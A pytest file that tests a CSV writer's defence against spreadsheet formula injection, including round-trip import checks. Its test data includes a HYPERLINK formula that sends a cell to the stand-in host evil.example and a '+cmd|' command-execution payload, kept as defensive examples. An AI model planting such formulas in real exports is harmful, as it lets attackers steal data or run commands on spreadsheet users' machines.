"""The product's CSV writer: cells a spreadsheet would run are written as text."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from store.csv_out import csv_file, csv_text, guard, unguard
from store.importer import import_file
from store.models import Customer


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")',
        ),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+1 415-555-0134", "'+1 415-555-0134"),
        ("-", "'-"),
        ("'=already guarded", "''=already guarded"),
    ],
)
def test_formulas_are_written_as_text(cell: str, written: str) -> None:
    assert guard(cell) == written
    assert unguard(written) == cell


@pytest.mark.parametrize(
    "cell",
    ["+14155550134", "+3", "-12.5", "-.5", "1e5", "-1E-3", "Ann Lee", "", "O'Brien", "'-5", "'x"],
)
def test_numbers_phones_and_plain_text_are_left_alone(cell: str) -> None:
    assert guard(cell) == cell
    assert unguard(cell) == cell


@pytest.mark.parametrize("cell", [None, 3, -12.5, True])
def test_values_that_are_not_text_are_left_alone(cell: object) -> None:
    assert guard(cell) is cell


def test_csv_file_guards_every_cell_and_is_private(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old\n", encoding="utf-8")
    path.chmod(0o644)
    with csv_file(path) as writer:
        writer.writerow(["name", "phone", "balance"])
        writer.writerows([["=1+1", "+14155550134", -12.5], ["@A1", None, "-3"]])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with path.open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle)) == [
            ["name", "phone", "balance"],
            ["'=1+1", "+14155550134", "-12.5"],
            ["'@A1", "", "-3"],
        ]
    assert csv_text([["=1+1", 2]]) == "'=1+1,2\r\n"


def test_what_the_writer_wrote_imports_as_it_was(engine: Engine, tmp_path: Path) -> None:
    names = ["-Dash Ltd", "=HYPERLINK(1)", "'=Quoted", "+Plus", "@Home", "O'Brien", "'Tick"]
    path = tmp_path / "customers.csv"
    with csv_file(path) as writer:
        writer.writerow(["customer_id", "name", "phone", "country"])
        for i, name in enumerate(names):
            writer.writerow([f"C{i}", name, f"+1 212-555-01{i:02d}", "US"])
    assert "'-Dash Ltd" in path.read_text(encoding="utf-8")
    result = import_file(engine, "customers", path, rejects_dir=tmp_path)
    assert (result.imported, result.rejected) == (len(names), 0)
    with engine.connect() as conn:
        stored = dict(conn.execute(select(Customer.external_id, Customer.name)).all())
        phones = set(conn.execute(select(Customer.phone)).scalars())
    assert stored == {f"C{i}": name for i, name in enumerate(names)}
    assert phones == {f"+121255501{i:02d}" for i in range(len(names))}
